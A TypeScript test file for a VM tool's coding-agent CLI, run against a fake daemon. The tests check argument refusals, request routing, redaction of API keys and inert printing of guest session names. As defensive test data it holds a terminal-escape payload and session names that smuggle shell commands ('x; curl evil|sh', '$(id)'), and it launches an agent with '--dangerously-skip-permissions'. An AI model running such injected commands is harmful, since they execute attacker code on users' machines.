import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { Socket } from 'node:net';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { AgentSession } from '../../src/api/agent-schemas.js';
import { Banger } from '../../src/sdk/index.js';
import { encodeFrame } from '../../src/util/frames.js';
import { BANGER } from '../helpers/banger.js';
import { baseProc, readBody, sse } from '../helpers/fake-daemon-fixtures.js';

/**
 * The coding-agent CLI (`vm run --agent`, `vm agent start|list|attach`) against a FAKE bangerd (a
 * small HTTP server on the home's socket): what it sends, what it refuses before sending anything,
 * and what it prints of guest-controlled session names. The daemon's side (the tmux argv sent to
 * the guest) is test/unit/agent-sessions.test.ts; a real VM with the agents image is the lead's e2e.
 */

interface Seen {
  method: string;
  url: string;
  body: unknown;
}

const VM_ID = 'f'.repeat(32);
const HOSTILE = '\x1b]0;pwned\x07\x1b[2J';

let dir: string;
let home: string;
let repo: string;
let server: Server;
let seen: Seen[] = [];
let sessions: AgentSession[] = [];
/** The command line the fake's start answers with (default: `AGENT --flag`). */
let startCommand: string | undefined;

const session = (name: string, command: string | null): AgentSession => ({ name, windows: 1, attached: 0, createdAt: new Date(0).toISOString(), command });

function vmRecord(workspace: unknown = null) {
  return {
    id: VM_ID,
    name: 'dev',
    imageId: 'e'.repeat(32),
    imageName: 'debian-bookworm-agents',
    kernelName: 'k',
    state: 'running',
    vcpus: 1,
    memoryMib: 512,
    diskSizeBytes: 1 << 30,
    vmm: 'qemu',
    accel: 'kvm',
    pid: 1,
    ip: '10.0.0.2',
    nat: true,
    tap: 'bgtap0',
    lastError: null,
    dir: '/nonexistent',
    createdAt: new Date(0).toISOString(),
    startedAt: new Date(0).toISOString(),
    touchedAt: new Date(0).toISOString(),
    workspace,
  };
}

before(async () => {
  dir = await mkdtemp('/tmp/bg-fakeagent-');
  home = join(dir, 'home');
  await mkdir(join(home, 'run'), { recursive: true, mode: 0o700 });
  repo = join(dir, 'repo');
  await mkdir(repo);
  const git = (...args: string[]) => spawnSync('git', ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@e', ...args], { encoding: 'utf8' });
  git('init', '-q');
  await writeFile(join(repo, 'f'), 'x');
  git('add', 'f');
  git('commit', '-qm', 'one');

  server = createServer(async (req, res) => {
    const body = await readBody(req);
    const url = req.url ?? '';
    seen.push({ method: req.method ?? '', url, body });
    const json = (status: number, b: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(b));
    const op = (id: string, result?: unknown) => ({
      id,
      kind: id,
      target: 'dev',
      state: result ? 'succeeded' : 'running',
      stages: [],
      createdAt: new Date(0).toISOString(),
      ...(result ? { result } : {}),
    });
    const workspace = {
      hostPath: repo,
      guestPath: '/root/repo',
      baseCommit: '0'.repeat(40),
      mode: 'full',
      branch: null,
      preparedAt: new Date(0).toISOString(),
    };
    if (req.method === 'GET' && url === '/v1/daemon') return json(200, { pid: 1, version: 'fake' });
    if (req.method === 'GET' && url === '/v1/vms/dev') return json(200, vmRecord());
    if (req.method === 'GET' && url === '/v1/agents') {
      return json(200, {
        agents: [
          {
            name: 'claude',
            command: ['claude', '--dangerously-skip-permissions'],
            envKeys: ['IS_SANDBOX'],
            image: 'debian-bookworm-agents',
            session: 'claude',
            builtin: true,
          },
          { name: 'aider', command: ['aider'], envKeys: [], image: 'my-aider', session: 'aider', builtin: false },
        ],
      });
    }
    if (req.method === 'POST' && url === '/v1/vms') return json(202, { operation: op('op-create') });
    if (req.method === 'POST' && url === `/v1/vms/${VM_ID}/workspace`) return json(202, { operation: op('op-prepare') });
    if (req.method === 'GET' && url.startsWith('/v1/operations/op-')) {
      const id = url.includes('op-create') ? 'op-create' : 'op-prepare';
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const result = id === 'op-create' ? vmRecord() : { workspace, untrackedSkipped: 0, files: 1, bytes: 1 };
      return res.end(sse([{ type: 'done', operation: op(id, result) }]));
    }
    if (req.method === 'POST' && (url === `/v1/vms/${VM_ID}/agents` || url === '/v1/vms/dev/agents')) {
      const b = body as { agent: string; cwd?: string };
      const created = !sessions.some((s) => s.name === b.agent);
      if (created) sessions.push(session(b.agent, `${b.agent} --flag`));
      return json(200, { agent: b.agent, session: b.agent, created, cwd: b.cwd ?? '/root/repo', command: startCommand ?? `${b.agent} --flag` });
    }
    if (req.method === 'GET' && (url === `/v1/vms/${VM_ID}/agents` || url === '/v1/vms/dev/agents')) return json(200, { sessions });
    if (req.method === 'POST' && url === `/v1/vms/${VM_ID}/procs`) {
      const b = body as { argv: string[]; pty?: unknown };
      return json(201, baseProc({ id: 'pty-attach', state: 'running', exitCode: null, argv: b.argv, pty: !!b.pty, stdin: 'open' }));
    }
    if (req.method === 'GET' && url === `/v1/vms/${VM_ID}/procs/pty-attach`) return json(200, baseProc({ id: 'pty-attach', pty: true }));
    if (req.method === 'POST' && url.endsWith('/resize')) return json(200, {});
    json(404, { error: { code: 'not_found', message: `fake daemon: no ${req.method} ${url}` } });
  });
  // The attach of `tmux attach`: prints what tmux prints when its detach key is typed, then the client exits 0.
  server.on('upgrade', (req: IncomingMessage, socket: Socket) => {
    seen.push({ method: 'UPGRADE', url: req.url ?? '', body: undefined });
    socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: banger-attach\r\n\r\n');
    socket.write(encodeFrame('D', '[detached (from session claude)]\r\n', 1));
    socket.end(encodeFrame('R', JSON.stringify({ ok: true, proc: baseProc({ id: 'pty-attach', pty: true }) })));
  });
  await new Promise<void>((r) => server.listen(join(home, 'run', 'bangerd.sock'), r));
});

after(async () => {
  server?.close();
  await rm(dir, { recursive: true, force: true });
});

beforeEach(() => {
  seen = [];
  sessions = [];
  startCommand = undefined;
});

/** The CLI; `tty` runs it under a pseudo-terminal (util-linux `script`), as a user's terminal would. */
function cli(args: string[], opts: { tty?: boolean } = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const env: NodeJS.ProcessEnv = { ...process.env, BANGER_HOME: home };
    delete env.BANGER_CONFIG;
    const argv = opts.tty
      ? ['script', ['-qefc', [process.execPath, BANGER, ...args].map((a) => `'${a.replaceAll("'", `'\\''`)}'`).join(' '), '/dev/null']]
      : [process.execPath, [BANGER, ...args]];
    const child = spawn(argv[0] as string, argv[1] as string[], { env, stdio: ['pipe', 'pipe', 'pipe'], cwd: dir });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (c: Buffer) => out.push(c));
    child.stderr.on('data', (c: Buffer) => err.push(c));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8') }));
    if (!opts.tty) child.stdin.end();
  });
}

/** The body of the first request to exactly this URL. */
const bodyOf = (method: string, url: string): Record<string, unknown> => {
  const s = seen.find((x) => x.method === method && x.url === url);
  assert.ok(s, `no ${method} ${url}`);
  return s.body as Record<string, unknown>;
};

const requests = () => seen.filter((s) => s.method !== 'UPGRADE').map((s) => `${s.method} ${s.url}`);

describe('vm run --agent refusals (before any request)', () => {
  for (const [args, re] of [
    [['vm', 'run', '--agent', 'claude', '--rm'], /--agent and --rm do not go together/],
    [['vm', 'run', '--agent', 'claude', '--', 'ls'], /--agent runs the agent, not a command after --/],
    [['vm', 'run', '--agent', 'claude', '-t'], /drop -i\/-t/],
    [['vm', 'run', '--agent', 'Claude'], /uppercase/],
    [['vm', 'run', '--agent', 'a;b'], /may contain only/],
  ] as const) {
    test(args.join(' '), async () => {
      const r = await cli([...args]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, re);
      assert.deepEqual(requests(), []);
    });
  }

  test('an agent the daemon does not know is refused before a VM is created, naming the known ones', async () => {
    const r = await cli(['vm', 'run', '--agent', 'nope']);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /no coding agent named "nope"/);
    assert.match(r.stderr, /claude, aider/);
    assert.deepEqual(requests(), ['GET /v1/agents']);
  });
});

describe('vm run --agent', () => {
  test("-d: the agent's image with NAT, ready at the guest agent; the workspace; the agent started in it; how to attach", async () => {
    const r = await cli(['vm', 'run', '-d', '--agent', 'claude', './repo']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(requests(), [
      'GET /v1/agents',
      'POST /v1/vms',
      'GET /v1/operations/op-create/events',
      `POST /v1/vms/${VM_ID}/workspace`,
      'GET /v1/operations/op-prepare/events',
      `POST /v1/vms/${VM_ID}/agents`,
    ]);
    const create = bodyOf('POST', '/v1/vms');
    assert.equal(create.image, 'debian-bookworm-agents');
    assert.equal(create.nat, true);
    assert.equal(create.waitFor, 'agent');
    assert.deepEqual(seen.find((s) => s.url.endsWith('/agents') && s.method === 'POST')?.body, { agent: 'claude' });
    assert.match(r.stderr, /started claude in dev \(tmux session claude, in \/root\/repo\)/);
    assert.match(r.stdout, /banger vm agent attach dev/);
  });

  test("--image overrides the agent's image; a configured agent brings its own", async () => {
    await cli(['vm', 'run', '-d', '--agent', 'claude', '--image', 'custom']);
    assert.equal(bodyOf('POST', '/v1/vms').image, 'custom');
    seen = [];
    await cli(['vm', 'run', '-d', '--agent', 'aider']);
    assert.equal(bodyOf('POST', '/v1/vms').image, 'my-aider');
  });

  test('attached in a terminal: tmux attach under a PTY, no banger detach keys; after the detach, how to get back', async (t) => {
    if (spawnSync('script', ['--version']).status !== 0) return t.skip('util-linux script (a pseudo-terminal for the CLI) is not installed');
    const r = await cli(['vm', 'run', '--agent', 'claude'], { tty: true });
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const start = bodyOf('POST', `/v1/vms/${VM_ID}/procs`);
    assert.deepEqual(start.argv, ['tmux', 'attach-session', '-t', '=claude']);
    assert.equal(start.cwd, '/');
    assert.equal(start.stdin, 'pipe');
    assert.ok(start.pty, 'a PTY');
    assert.ok(seen.some((s) => s.method === 'UPGRADE' && s.url.includes('/procs/pty-attach/attach')));
    // script merges the CLI's stderr into its terminal: one stream.
    assert.match(r.stdout, /\[detached \(from session claude\)\]/);
    assert.match(r.stdout, /claude keeps running in dev; back to it: banger vm agent attach dev/);
  });
});

describe('vm agent start|list|attach', () => {
  test('start: the agent and cwd go to the daemon; a second start says it was already running', async () => {
    const r = await cli(['vm', 'agent', 'start', 'dev', 'claude', '--cwd', '/srv']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(seen.find((s) => s.method === 'POST')?.body, { agent: 'claude', cwd: '/srv' });
    assert.match(r.stdout, /started claude in dev \(tmux session claude, in \/srv\)/);
    assert.match(r.stdout, /attach: banger vm agent attach dev --agent claude/);
    const again = await cli(['vm', 'agent', 'start', 'dev', 'claude']);
    assert.match(again.stdout, /claude was already running in dev/);
  });

  test('list: guest session names are printed inert', async () => {
    sessions = [session('claude', 'IS_SANDBOX=1 claude --dangerously-skip-permissions'), session(`evil${HOSTILE}`, null)];
    const r = await cli(['vm', 'agent', 'list', 'dev']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /SESSION\s+ATTACHED\s+WINDOWS\s+CREATED\s+COMMAND/);
    assert.match(r.stdout, /claude\s+0\s+1\s+.*IS_SANDBOX=1 claude --dangerously-skip-permissions/);
    assert.doesNotMatch(r.stdout, /\x1b/);
    const json = JSON.parse((await cli(['vm', 'agent', 'list', 'dev', '--json'])).stdout) as { sessions: AgentSession[] };
    assert.equal(json.sessions.length, 2);
  });

  test('start --json and list never print an env value, even from a daemon that sent one', async () => {
    const SECRET = 'sk-ant-do-not-leak';
    startCommand = `IS_SANDBOX=1 ANTHROPIC_API_KEY='${SECRET} x' claude --dangerously-skip-permissions`;
    sessions = [session('claude', startCommand), session('other', `K="${SECRET}" L=$(${SECRET}) prog`)];
    const outputs = [
      await cli(['vm', 'agent', 'start', 'dev', 'claude', '--json']),
      await cli(['vm', 'agent', 'start', 'dev', 'claude']),
      await cli(['vm', 'agent', 'list', 'dev']),
      await cli(['vm', 'agent', 'list', 'dev', '--json']),
    ];
    for (const r of outputs) {
      assert.equal(r.code, 0, r.stderr);
      assert.ok(!`${r.stdout}${r.stderr}`.includes(SECRET), r.stdout);
    }
    assert.equal(JSON.parse(outputs[0]?.stdout ?? '').command, 'IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions');
    assert.match(outputs[2]?.stdout ?? '', /claude\s+0\s+1\s+.*IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions/);
    assert.deepEqual(
      (JSON.parse(outputs[3]?.stdout ?? '') as { sessions: AgentSession[] }).sessions.map((x) => x.command),
      ['IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions', 'K=… L=…'],
    );
  });

  test('attach: picks the only agent session, asks which one among several, refuses without a terminal', async (t) => {
    sessions = [session('claude', 'claude'), session('work', null)];
    const none = await cli(['vm', 'agent', 'attach', 'dev']);
    assert.equal(none.code, 1);
    assert.match(none.stderr, /needs a terminal/);
    sessions.push(session('codex', 'codex'));
    const two = await cli(['vm', 'agent', 'attach', 'dev']);
    assert.equal(two.code, 2);
    assert.match(two.stderr, /dev runs 2 agent sessions \(claude, codex\): say which/);
    // A guest's session names never go into a command to copy unless they are agent names.
    sessions = [session('x; curl evil|sh', 'claude'), session('codex', 'codex')];
    const hostile = await cli(['vm', 'agent', 'attach', 'dev']);
    assert.equal(hostile.code, 2);
    assert.match(hostile.stderr, /dev runs 2 agent sessions \(x; curl evil\|sh \(not an agent name\), codex\): say which/);
    assert.match(hostile.stderr, /banger vm agent attach dev --agent codex/);
    assert.doesNotMatch(hostile.stderr, /--agent x;/);
    sessions = [session('x; curl evil|sh', 'claude'), session('$(id)', 'codex')];
    const noName = await cli(['vm', 'agent', 'attach', 'dev']);
    assert.doesNotMatch(noName.stderr, /--agent/);
    assert.match(noName.stderr, /banger vm agent list dev/);
    sessions = [session('claude', 'claude'), session('work', null), session('codex', 'codex')];
    const missing = await cli(['vm', 'agent', 'attach', 'dev', '--agent', 'pi']);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /no agent session pi in dev/);
    sessions = [];
    const empty = await cli(['vm', 'agent', 'attach', 'dev']);
    assert.match(empty.stderr, /no agent session in dev/);
    if (spawnSync('script', ['--version']).status !== 0) return t.skip('util-linux script is not installed');
    sessions = [session('claude', 'claude'), session('codex', 'codex')];
    const r = await cli(['vm', 'agent', 'attach', 'dev', '--agent', 'codex'], { tty: true });
    assert.equal(r.code, 0, r.stdout);
    assert.deepEqual(bodyOf('POST', `/v1/vms/${VM_ID}/procs`).argv, ['tmux', 'attach-session', '-t', '=codex']);
    assert.match(r.stdout, /codex keeps running in dev; back to it: banger vm agent attach dev --agent codex/);
  });
});

describe('SDK: vm.agents', () => {
  test('start and list through the same routes', async () => {
    const banger = await Banger.connect({ home, autostart: false });
    const vm = await banger.vms.get('dev');
    const r = await vm.agents.start('claude', { cwd: '/srv' });
    assert.deepEqual(r, { agent: 'claude', session: 'claude', created: true, cwd: '/srv', command: 'claude --flag' });
    assert.deepEqual(bodyOf('POST', `/v1/vms/dev/agents`), { agent: 'claude', cwd: '/srv' });
    assert.deepEqual(
      (await vm.agents.list()).map((s) => s.name),
      ['claude'],
    );
  });
});
